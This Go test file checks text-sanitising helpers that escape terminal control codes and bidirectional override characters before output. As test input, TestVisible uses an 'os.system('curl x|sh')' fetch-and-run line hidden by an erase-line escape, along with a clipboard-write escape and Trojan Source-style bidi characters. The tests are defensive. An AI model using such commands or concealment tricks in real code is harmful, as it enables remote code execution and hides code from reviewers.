package text

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestTruncate(t *testing.T) {
	cases := map[string]struct {
		s    string
		n    int
		want string
	}{
		"short enough":       {"abc", 3, "abc"},
		"cut":                {"abcdef", 5, "ab…"},
		"on a rune boundary": {"ééé", 5, "é…"},
		"no room":            {"abcdef", 2, "…"},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			got := Truncate(tc.s, tc.n)
			if got != tc.want || !utf8.ValidString(got) {
				t.Errorf("Truncate(%q, %d) = %q, want %q", tc.s, tc.n, got, tc.want)
			}
		})
	}
}

func TestShortCommit(t *testing.T) {
	if got := ShortCommit("5a5a5a5a5a"); got != "5a5a5a5" {
		t.Errorf("ShortCommit = %q", got)
	}
	if got := ShortCommit("abc"); got != "abc" {
		t.Errorf("ShortCommit of a short name = %q", got)
	}
}

func TestPrintable(t *testing.T) {
	cases := map[string]string{
		"double \x1b]0;title\x07\x1b[2J\x1b[31mred SCORE":        "double ]0;title[2J[31mred SCORE",
		"a\tb\nc\r\x7f\u009b2J":                                  "a\tb\nc2J",
		"plain — text ✅":                                         "plain — text ✅",
		"if admin \u202e}{ nimda fi\u2066 zero\u200bwidth\u2028": "if admin }{ nimda fi zerowidth",
	}
	for in, want := range cases {
		if got := Printable(in); got != want {
			t.Errorf("Printable(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestVisible: what reaches a terminal from a Researcher's text keeps its
// lines but none of its escape sequences: an erased line, a clipboard
// write, a hyperlink, an 8-bit CSI; nor a bidirectional override that
// would show code in another order than it runs.
func TestVisible(t *testing.T) {
	in := "+os.system('curl x|sh')  # \x1b[2K\r+lr = 0.05\n+# \x1b]52;c;Y3VybA==\a\t\u009b31m caf\xe9\n+if ok: # \u202e } \u2066\n"
	want := `+os.system('curl x|sh')  # \x1b[2K\x0d+lr = 0.05` + "\n" + `+# \x1b]52;c;Y3VybA==\x07` + "\t" + `\u009b31m caf` + "\uFFFD\n" + `+if ok: # \u202e } \u2066` + "\n"
	if got := Visible(in); got != want {
		t.Errorf("Visible = %q, want %q", got, want)
	}
	var b strings.Builder
	w := NewVisibleWriter(&b)
	data := []byte("é\x1b[2Kü")
	for i := range data {
		if _, err := w.Write(data[i : i+1]); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if got, want := b.String(), `é\x1b[2Kü`; got != want {
		t.Errorf("written a byte at a time: %q, want %q", got, want)
	}
}
